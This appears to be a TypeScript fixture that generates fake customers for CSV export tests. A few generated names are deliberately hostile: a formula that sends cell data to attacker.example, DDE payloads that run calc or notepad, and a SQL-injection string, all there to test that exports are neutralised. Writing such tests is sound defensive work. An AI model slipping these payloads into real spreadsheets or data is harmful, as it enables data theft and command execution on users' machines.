import { type Random } from './random';

const firstNames = ['Ada', 'Grace', 'Alan', 'Katherine', 'Linus', 'Margaret', 'Tim', 'Barbara', 'Ken', 'Radia', 'Dennis', 'Frances', 'Guido', 'Hedy', 'James', 'Joan', 'Yukihiro', 'Sophie', 'Bjarne', 'Anita', 'Élodie', 'Søren', 'Zoë', 'Mateo', 'Hiroshi', 'Priya', 'Olu', 'Chen', 'Fatima', 'Lars'];
const lastNames = ['Lovelace', 'Hopper', 'Turing', 'Johnson', 'Torvalds', 'Hamilton', 'Berners-Lee', 'Liskov', 'Thompson', 'Perlman', 'Ritchie', 'Allen', 'van Rossum', 'Lamarr', 'Gosling', 'Clarke', 'Matsumoto', 'Wilson', 'Stroustrup', 'Borg', 'Dupont', 'Kierkegaard', "O'Brien", 'García', 'Tanaka', 'Patel', 'Adeyemi', 'Wang', 'Haddad', 'Nilsson'];
const companyWords = ['Acme', 'Globex', 'Initech', 'Umbrella', 'Hooli', 'Vandelay', 'Stark', 'Wayne', 'Tyrell', 'Soylent', 'Cyberdyne', 'Aperture', 'Massive', 'Pied Piper', 'Wonka', 'Gringotts', 'Oceanic', 'Dunder', 'Monarch', 'Bluth'];
const companySuffixes = ['Inc.', 'GmbH', 'Ltd', 'SAS', 'KK', 'Labs', 'Studio', 'Co.', 'AG', 'BV'];

/**
 * Text that arrives from outside (names, emails, metadata) and must come out of every CSV neutralised: formulas,
 * a leading tab or carriage return, commas, quotes and newlines. About one customer in 250 has one.
 */
export const hostileNames = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1+1)',
  '\tTabbed Holdings',
  '\rCarriage Return Ltd',
  'Comma, Quote "and" Co',
  'Line\nBreak Labs',
  "Robert'); DROP TABLE customers;--",
];

export interface Person {
  name: string;
  email: string;
  company: string;
}

export function personFor(random: Random, index: number): Person {
  const first = random.pick(firstNames);
  const last = random.pick(lastNames);
  const company = `${random.pick(companyWords)} ${random.pick(companySuffixes)}`;
  const hostile = random.chance(0.004) ? random.pick(hostileNames) : null;
  const local = `${first}.${last}`.toLowerCase().normalize('NFD').replace(/[^a-z.]/g, '');
  return {
    name: hostile ?? `${first} ${last}`,
    email: `${local}.${index}@${company.split(' ')[0]?.toLowerCase() ?? 'example'}.example`,
    company,
  };
}
